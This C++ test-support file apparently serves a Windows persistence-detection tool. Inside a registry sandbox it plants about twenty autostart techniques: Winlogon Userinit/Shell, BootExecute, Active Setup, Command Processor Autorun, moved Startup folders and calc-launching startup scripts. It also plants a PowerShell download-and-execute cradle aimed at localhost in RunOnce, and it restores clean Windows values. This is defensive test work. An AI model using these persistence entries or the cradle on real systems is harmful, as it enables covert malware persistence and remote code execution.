#include "support/Techniques.h"

#include "guard/Places.h"
#include "guard/RuleLists.h"
#include "platform/files.h"
#include "platform/system.h"
#include "registry/Registry.h"

namespace {

using platform::RegData;

RegData Sz(const std::string& text) {
  return {platform::kRegSz, text + '\0'};
}
RegData ExpandSz(const std::string& text) {
  return {platform::kRegExpandSz, text + '\0'};
}
RegData Multi(const std::vector<std::string>& strings) {
  std::string bytes;
  for (const std::string& text : strings)
    bytes += text + '\0';
  return {platform::kRegMultiSz, bytes + '\0'};
}

const std::string kRunOnceEx = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx";
const std::string kNotify =
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
const std::string kUserNotify =
    "HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Notify";
const std::string kCoreFonts =
    std::string(kActiveSetupKey) + "\\{C9E9A340-D1F1-11D0-821E-444553540600}";

}  // namespace

std::vector<Technique> Techniques(const std::function<std::string(const std::string&)>& program) {
  auto one = [](std::string name, std::string key, std::string value, RegData planted,
                std::string command, bool own_key) {
    Technique technique{std::move(name), key,           value, std::move(planted),
                        command,         kKindRegistry, key,   own_key};
    return technique;
  };
  auto item = [](std::string name, std::string key, std::string value, RegData planted,
                 std::string command) {
    return Technique{std::move(name),    key,  value, std::move(planted), command, kKindListItem,
                     key + "\\" + value, false};
  };
  const std::string userinit_lm = program("rwt-userinit-lm.exe");
  const std::string shell_lm = program("rwt-shell-lm.exe");
  const std::string userinit_cu = program("rwt-userinit-cu.exe");
  const std::string shell_cu = program("rwt-shell-cu.exe");
  const std::string boot = program("rwt-boot.exe");
  const std::string load = program("rwt-load.exe");
  const std::string rdp = program("rwt-rdp.exe");
  const std::string folder = program("rwt-startup");
  const std::string common_folder = program("rwt-common-startup");
  const std::string cradle = program("powershell.exe") +
                             " -c \"IEX (New-Object Net.WebClient).DownloadString('http://"
                             "127.0.0.1/rwt.ps1')\"";
  std::vector<Technique> techniques = {
      item("Winlogon HKLM Userinit", kWinlogonKey, "Userinit", Sz("Userinit.exe, " + userinit_lm),
           userinit_lm),
      item("Winlogon HKLM Shell", kWinlogonKey, "Shell", Sz("explorer.exe, " + shell_lm), shell_lm),
      item("Winlogon HKCU Userinit", kUserWinlogonKey, "Userinit",
           Sz("Userinit.exe, " + userinit_cu), userinit_cu),
      item("Winlogon HKCU Shell", kUserWinlogonKey, "Shell", Sz("explorer.exe, " + shell_cu),
           shell_cu),
      item("BootExecute", kSessionManagerKey, "BootExecute", Multi({"autocheck autochk *", boot}),
           boot),
      item("Windows Load", kUserWindowsKey, "Load", Sz(load), load),
      item("RDP StartupPrograms", kRdpwdKey, "StartupPrograms", Sz("rdpclip," + rdp), rdp),
      one("RunOnceEx Depend", kRunOnceEx + "\\0001\\Depend", "1", Sz(program("rwt-depend.dll")),
          program("rwt-depend.dll"), true),
      one("Winlogon Notify (HKCU)", kUserNotify, "logon", Sz(program("rwt-notify.dll")),
          program("rwt-notify.dll"), true),
      one("Winlogon Notify package", kNotify + "\\RwtPackage", "DllName",
          ExpandSz(program("rwt-package.dll")), program("rwt-package.dll"), true),
      one("Active Setup new component", std::string(kActiveSetupKey) + "\\rwt_component",
          "StubPath", Sz(program("rwt-stub.exe")), program("rwt-stub.exe"), true),
      one("Active Setup StubPath added", kCoreFonts, "StubPath", Sz(program("rwt-fonts.exe")),
          program("rwt-fonts.exe"), false),
      one("UserInitMprLogonScript", "HKCU\\Environment", "UserInitMprLogonScript",
          Sz(program("rwt-logon.bat")), program("rwt-logon.bat"), false),
      one("BootVerificationProgram",
          "HKLM\\System\\CurrentControlSet\\Control\\BootVerificationProgram", "ImagePath",
          ExpandSz(program("rwt-verify.exe")), program("rwt-verify.exe"), true),
      one("Command Processor Autorun (HKLM, 32-bit view)",
          "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Command Processor", "Autorun",
          Sz(program("rwt-autorun-lm.bat")), program("rwt-autorun-lm.bat"), false),
      one("Command Processor Autorun (HKCU)", "HKCU\\Software\\Microsoft\\Command Processor",
          "Autorun", Sz(program("rwt-autorun-cu.bat")), program("rwt-autorun-cu.bat"), false),
      one("Policies System Shell (HKCU)",
          "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "Shell",
          Sz(program("rwt-policy-shell.exe")), program("rwt-policy-shell.exe"), false),
      {"Startup folder moved (HKCU)", kUserShellFoldersKey, "Startup", ExpandSz(folder + "\\"),
       folder + "\\", kKindMovedFolder, std::string(kUserShellFoldersKey) + "\\Startup", false},
      {"Common Startup folder moved (HKLM)", kCommonShellFoldersKey, "Common Startup",
       Sz(common_folder), common_folder, kKindMovedFolder,
       std::string(kCommonShellFoldersKey) + "\\Common Startup", false},
      {"PowerShell cradle in RunOnce", kRunOnceKey, "NextRun", Sz(cradle), cradle, kKindRegistry,
       kRunOnceKey, false, BackupStore::kStartupReg},
  };
  // Scripts in both Startup folders where Windows keeps them, whether moved or not; each
  // names its folder, so that no two have one digest.
  for (const char* folder_value : {"Startup", "Common Startup"}) {
    std::string folder = ExpandEnvironmentText(DefaultStartupFolderText(folder_value));
    for (auto [name, text] :
         {std::pair{"vbsstartup.vbs", "CreateObject(\"WScript.Shell\").Run \"calc\" ' "},
          std::pair{"jsestartup.jse", "new ActiveXObject(\"WScript.Shell\").Run(\"calc\"); // "},
          std::pair{"batstartup.bat", "start calc & rem "}}) {
      std::string path = folder + "\\" + name;
      techniques.push_back({std::string(folder_value) + " folder " + name, folder, name,
                            RegData{platform::kRegNone, text + std::string(folder_value)}, path,
                            kKindFile, path, false, BackupStore::kStartupFolder});
    }
  }
  return techniques;
}

std::vector<CleanValue> CleanWindowsValues() {
  const std::string windir = platform::GetEnv("windir");
  return {
      {kWinlogonKey, "Userinit", Sz(windir + "\\system32\\userinit.exe,"), false},
      {kWinlogonKey, "Shell", Sz("explorer.exe"), false},
      {kSessionManagerKey, "BootExecute", Multi({"autocheck autochk *"}), false},
      {kSessionManagerKey, "SetupExecute", Multi({}), false},
      {kSessionManagerKey, "Execute", Multi({}), false},
      {kRdpwdKey, "StartupPrograms", Sz("rdpclip"), false},
      {kRunOnceEx, "Title", Sz("Installing updates"), false},
      {kRunOnceEx, "Flags", {platform::kRegDword, std::string("\x20\0\0\0", 4)}, false},
      {kNotify + "\\crypt32chain", "DllName", ExpandSz("crypt32.dll"), true},
      {kNotify + "\\WgaLogon", "DllName", ExpandSz("WgaLogon.dll"), true},
      {std::string(kActiveSetupKey) + "\\{6BF52A52-394A-11d3-B153-00C04F79FAA6}", "StubPath",
       ExpandSz("%SystemRoot%\\system32\\unregmp2.exe /FirstLogon"), false},
      {std::string(kActiveSetupKey) + "\\{89820200-ECBD-11cf-8B85-00AA005B4340}", "StubPath",
       Sz("regsvr32.exe /s /n /i:U shell32.dll"), false},
      {kUserShellFoldersKey, "Startup",
       ExpandSz(
           "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"),
       false},
      {kCommonShellFoldersKey, "Common Startup",
       ExpandSz("%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"), false},
  };
}

void OwnTechniquePlaces(RegistrySandbox& sandbox, const std::vector<Technique>& techniques) {
  for (const Technique& technique : techniques) {
    if (technique.kind == kKindFile) {
      // Muted or blocked, it waits in the pss folder; the second of a name as "name (2)".
      std::string::size_type dot = technique.value.rfind('.');
      for (const std::string& path : {technique.location, PssFolder() + "\\" + technique.value,
                                      PssFolder() + "\\" + technique.value.substr(0, dot) + " (2)" +
                                          technique.value.substr(dot)})
        sandbox.OwnFile(path);
    } else if (technique.own_key)
      sandbox.Own(technique.key);
    else
      sandbox.OwnValue(technique.key, technique.value);
  }
  sandbox.Own(kRunOnceEx + "\\0001");
  for (const CleanValue& clean : CleanWindowsValues()) {
    if (clean.own_key)
      sandbox.Own(clean.key);
    else
      sandbox.OwnValue(clean.key, clean.value);
  }
}

::testing::AssertionResult Plant(const std::vector<Technique>& techniques) {
  for (const Technique& technique : techniques)
    if (technique.kind == kKindFile
            ? (platform::CreateFolder(technique.key),
               !platform::WriteWholeFile(technique.location, technique.planted.bytes))
            : WriteRegRaw(technique.key, technique.value, technique.planted) != 0)
      return ::testing::AssertionFailure() << "cannot plant " << technique.name;
  return ::testing::AssertionSuccess();
}

::testing::AssertionResult PlantCleanWindows() {
  for (const CleanValue& clean : CleanWindowsValues())
    if (WriteRegRaw(clean.key, clean.value, clean.data) != 0)
      return ::testing::AssertionFailure() << "cannot write " << clean.key << "\\" << clean.value;
  return ::testing::AssertionSuccess();
}

::testing::AssertionResult AsPlanted(const std::vector<Technique>& techniques) {
  for (const Technique& technique : techniques) {
    RegData data{technique.planted.type, ""};
    if (technique.kind == kKindFile ? !platform::ReadWholeFile(technique.location, &data.bytes)
                                    : !ReadRegRaw(technique.key, technique.value, &data))
      return ::testing::AssertionFailure() << technique.name << ": it is gone";
    if (data != technique.planted) {
      std::string shown = data.bytes;
      for (char& c : shown)
        if (c == '\0')
          c = '|';
      return ::testing::AssertionFailure() << technique.name << ": holds '" << shown << "'";
    }
  }
  return ::testing::AssertionSuccess();
}
